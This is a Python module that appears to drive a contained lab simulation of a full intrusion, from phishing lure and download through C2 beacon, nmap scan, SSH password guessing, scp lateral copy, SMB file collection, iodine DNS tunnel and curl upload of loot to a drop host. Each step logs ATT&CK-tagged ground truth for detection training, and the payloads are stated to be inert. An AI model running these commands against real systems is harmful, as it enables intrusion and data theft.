"""The incident, step by step. Every step writes its own entry in the diary, so the truth cannot differ from what was done.

A mail lures j.ortega to a download on pc-042; the tool calls home; from there the server segment is scanned, a password of app-01 is
guessed, the tool is copied over, files are collected from the file server, a DNS tunnel is opened, and the loot leaves by HTTPS.
Everything is inert: the tool is filler, the implant only says hello, the loot is random bytes.
"""

from __future__ import annotations

import hashlib
import random
import time
from pathlib import Path

from lab import clients, world
from lab.cage import STATE
from lab.crew import Crew, inside, python, run
from lab.internet import tool
from lab.rhythm import hands
from lab.truth import Claim, Diary, Entry

ZERO, SECOND = world.PATIENT_ZERO, world.SECOND_VICTIM
POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682"
SLEEP_S, JITTER = 22.0, 0.3
UPLOAD_BYTES = 1_100_000
TUNNEL_BYTES = 24_000
TRIES = 44


class Intrusion:
    """The steps, with the share of the recording's time at which each begins."""

    def __init__(self, crew: Crew, diary: Diary, lasts_s: float, rng: random.Random) -> None:
        self._crew, self._diary, self._lasts_s, self._rng = crew, diary, lasts_s, rng
        self._began = time.monotonic()

    def run(self) -> None:
        """All steps in order; a late step delays the next, nothing is skipped."""
        for share, step in (
            (0.05, self.lure), (0.13, self.download), (0.14, self.beacon), (0.28, self.scan), (0.38, self.guess), (0.52, self.copy),
            (0.54, self.second_beacon), (0.62, self.collect), (0.66, self.tunnel), (0.88, self.upload),
        ):  # fmt: skip
            time.sleep(max(0.0, self._began + share * self._lasts_s - time.monotonic()))
            print(f"intrusion: {step.__name__}", flush=True)
            step()

    def lure(self) -> None:
        """The mail."""
        site = world.PHISH_SITE
        claims = [Claim(src=site.ip, dst=world.BY_NAME["mail-01"].ip, port=25, protocol="tcp")]
        detail = {"recipient": f"{ZERO.user}@{world.DOMAIN}", "sender": "notice@parcel-notice.example", "url": self.url}
        with self._diary.action(Entry("lure", "phishing_mail", "Mail with a link to the tool", claims, site.name, ["mail-01"],
                                      techniques=["T1566.002"], detail=detail)):  # fmt: skip
            run(*inside("crook", python("lab.errand", "lure", self.url)))

    @property
    def url(self) -> str:
        """Where the tool lies."""
        return f"http://{world.TOOL_SITE.name}{world.TOOL_PATH}"

    def download(self) -> None:
        """The click: the page behind the link, then the tool."""
        site, content = world.TOOL_SITE, Path(tool()).read_bytes()
        claims = [Claim(src=ZERO.ip, dst=site.ip, port=80, protocol="tcp"), *looked_up(site.name)]
        detail = {"url": self.url, "bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        with self._diary.action(Entry("download", "tool_download", "Tool downloaded over HTTP from a host nobody else visits", claims,
                                      ZERO.name, [site.name], techniques=["T1204.001", "T1105"], detail=detail)):  # fmt: skip
            self._on(ZERO, *clients.CURL, "-A", clients.BROWSER, "-o", "/dev/null", f"http://{site.name}/track?p=8841")
            time.sleep(2.5)
            self._on(ZERO, *clients.CURL, "-A", POWERSHELL, "-o", str(STATE / "downloaded.exe"), self.url)

    def beacon(self) -> None:
        """The tool calls home until the end."""
        self._implant(ZERO, "beacon", "beacon", looked_up(world.C2_SITE.name))

    def second_beacon(self) -> None:
        """The copy calls the same home."""
        self._implant(SECOND, "second-beacon", "beacon", [])

    def _implant(self, machine: world.Machine, name: str, kind: str, more: list[Claim]) -> None:
        site = world.C2_SITE
        claims = [Claim(src=machine.ip, dst=site.ip, port=443, protocol="tcp"), *more]
        detail = {"sleep_s": SLEEP_S, "jitter": JITTER, "tls": "1.2, self-signed certificate, CN=localhost"}
        title = f"{machine.name} calls home by HTTPS every {SLEEP_S:.0f} s ± {JITTER:.0%}"
        user = machine.user or "svc-deploy"
        self._diary.begin(Entry(name, kind, title, claims, machine.name, [site.name], techniques=["T1071.001", "T1573"], user=user, detail=detail))
        left = self._began + self._lasts_s - time.monotonic() - 2
        argv = python("lab.implant", f"{left:.0f}", str(SLEEP_S), str(JITTER), str(self._rng.randrange(1 << 30)))
        self._crew.start(name, machine.name, argv)

    def scan(self) -> None:
        """nmap: who is there, then which ports; no other deed of this PC toward the servers runs meanwhile."""
        target = world.SERVERS.net4
        claims = [Claim(src=ZERO.ip, dst=target, protocol=protocol) for protocol in ("tcp", "icmp")]
        hosts = [machine.ip for machine in world.SERVER_MACHINES]
        with hands(ZERO.name), self._diary.action(
            Entry("scan", "network_scan", "Sweep of the server segment, then its ports", claims, ZERO.name, ["servers"],
                  techniques=["T1018", "T1046"], detail={"network": target, "program": "nmap", "ports": "top 200"})
        ):  # fmt: skip
            self._on(ZERO, "nmap", "-n", "-sn", "-PE", "-PS443", "--max-rate", "60", "--max-retries", "1", target)
            self._on(ZERO, "nmap", "-n", "-Pn", "-sT", "--max-rate", "60", "--top-ports", "200", "--max-retries", "1", *hosts)

    def guess(self) -> None:
        """Passwords, one login each; the last one opens."""
        claims = [Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")]
        detail = {"logins": TRIES, "account_opened": "svc-deploy", "outcome": "success"}
        with self._diary.action(Entry("guess", "ssh_brute_force", "SSH passwords guessed until svc-deploy's was right", claims, ZERO.name,
                                      [SECOND.name], techniques=["T1110.001", "T1021.004"], detail=detail)):  # fmt: skip
            said = self._on(ZERO, *python("lab.guesser", SECOND.ip, str(TRIES), "1.2")).splitlines()
        if not said or not said[-1].endswith("opened"):
            raise RuntimeError(f"the password guessing did not end in success: {said[-2:]}")

    def copy(self) -> None:
        """The tool moves to the server, and is started there."""
        claims = [Claim(src=ZERO.ip, dst=SECOND.ip, port=22, protocol="tcp")]
        detail = {"account": "svc-deploy", "path": "/home/svc-deploy/.cache/upd.bin"}
        with self._diary.action(Entry("copy", "lateral_copy", "Tool copied to app-01 by scp, then a login to start it", claims, ZERO.name,
                                      [SECOND.name], techniques=["T1570", "T1021.004"], detail=detail)):  # fmt: skip
            secret, target = world.PASSWORDS["svc-deploy"], f"svc-deploy@{SECOND.ip}"
            log_in = ("sshpass", "-p", secret)
            self._on(ZERO, *log_in, "ssh", *clients.SSH_OPTIONS, target, "mkdir -p .cache; id; uname -a")
            self._on(ZERO, *log_in, "scp", *clients.SSH_OPTIONS, tool(), f"{target}:.cache/upd.bin")
            self._on(ZERO, *log_in, "ssh", *clients.SSH_OPTIONS, target, "sha256sum .cache/upd.bin")

    def collect(self) -> None:
        """The server reads the whole share with the stolen account."""
        claims = [Claim(src=SECOND.ip, dst=world.BY_NAME["fs-01"].ip, port=445, protocol="tcp")]
        with self._diary.action(Entry("collect", "collection", "Whole file share read from app-01 with the stolen account", claims, SECOND.name,
                                      ["fs-01"], techniques=["T1039", "T1078"], user="svc-deploy", detail={"share": "projects"})):  # fmt: skip
            loot = STATE / "loot"
            loot.mkdir()
            argv = clients.smb_argv(SECOND.name, "svc-deploy", f"lcd {loot}; recurse on; prompt off; mget *")
            self._on(SECOND, *argv)

    def tunnel(self) -> None:
        """iodine through the company's own resolver, with a little data inside."""
        resolver, lasts_s = world.BY_NAME["ns-01"], min(200.0, 0.16 * self._lasts_s)
        claims = [Claim(port=53, protocol="udp", name=world.TUNNEL_ZONE), *looked_up(world.TUNNEL_SITE.name)]
        detail = {"zone": world.TUNNEL_ZONE, "program": "iodine", "payload_bytes": TUNNEL_BYTES}
        with self._diary.action(Entry("tunnel", "dns_tunnel", "Data sent out inside DNS questions, through the internal resolver", claims,
                                      ZERO.name, [resolver.name, world.TUNNEL_SITE.name], techniques=["T1071.004", "T1048.001", "T1572"],
                                      detail=detail)):  # fmt: skip
            began = time.monotonic()
            argv = ["iodine", "-f", "-r", "-P", "n0tthew4y", resolver.ip, world.TUNNEL_ZONE]
            self._crew.start("iodine", ZERO.name, argv)
            self._await_tunnel()
            self._on(ZERO, *python("lab.errand", "tunnel", str(TUNNEL_BYTES)))
            time.sleep(max(0.0, lasts_s - (time.monotonic() - began)))
            self._crew.end("iodine")

    def _await_tunnel(self) -> None:
        for _ in range(200):
            if "10.99.0." in run(*inside(ZERO.name, ["ip", "-4", "addr", "show"])):
                return
            time.sleep(0.2)
        raise RuntimeError(f"the DNS tunnel did not come up; see {self._crew.logs}/iodine.log")

    def upload(self) -> None:
        """The loot leaves."""
        site = world.DROP_SITE
        claims = [Claim(src=SECOND.ip, dst=site.ip, port=443, protocol="tcp"), *looked_up(site.name)]
        loot = STATE / "loot.bin"
        loot.write_bytes(self._rng.randbytes(UPLOAD_BYTES))
        with self._diary.action(Entry("upload", "exfiltration", "Archive uploaded by HTTPS to a host nobody else visits", claims, SECOND.name,
                                      [site.name], techniques=["T1567", "T1041"], user="svc-deploy", detail={"bytes": UPLOAD_BYTES})):  # fmt: skip
            self._on(SECOND, *clients.CURL, "-k", "-A", "curl/7.88.1", "--data-binary", f"@{loot}", "-o", "/dev/null",
                     "-H", "Expect:", f"https://{site.name}/api/upload")  # fmt: skip

    def _on(self, machine: world.Machine, *argv: str) -> str:
        """Run one of the intruder's programs on a machine to its end."""
        return run(*inside(machine.name, argv))


def looked_up(name: str) -> list[Claim]:
    """The questions for a name: from whoever asked, and from the resolver to the provider."""
    return [Claim(port=53, protocol="udp", name=name)]


def indicators() -> list[dict[str, str]]:
    """What a responder should end up with, and block."""
    found = [{"type": kind, "value": value, "role": role}
             for site, role in ((world.TOOL_SITE, "download"), (world.C2_SITE, "command_and_control"), (world.DROP_SITE, "exfiltration"),
                                (world.TUNNEL_SITE, "dns_tunnel"), (world.PHISH_SITE, "phishing"))
             for kind, value in (("ipv4", site.ip), ("domain", site.name))]  # fmt: skip
    digest = hashlib.sha256(Path(tool()).read_bytes()).hexdigest()
    return [*found, {"type": "domain", "value": world.TUNNEL_ZONE, "role": "dns_tunnel"}, {"type": "sha256", "value": digest, "role": "tool"},
            {"type": "account", "value": "svc-deploy", "role": "stolen"}]  # fmt: skip
